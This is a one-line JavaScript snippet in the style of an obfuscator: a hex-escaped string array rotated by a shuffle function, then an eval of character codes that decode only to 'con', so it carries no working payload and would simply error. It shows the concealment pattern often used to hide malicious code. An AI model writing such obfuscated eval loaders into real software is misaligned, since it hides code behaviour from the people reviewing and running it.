var _0x1a2b=['log','\x61\x62'];(function(a,b){var c=function(d){while(--d){a.push(a.shift())}};c(++b)}(_0x1a2b,0x1));eval(String.fromCharCode(99,111,110));
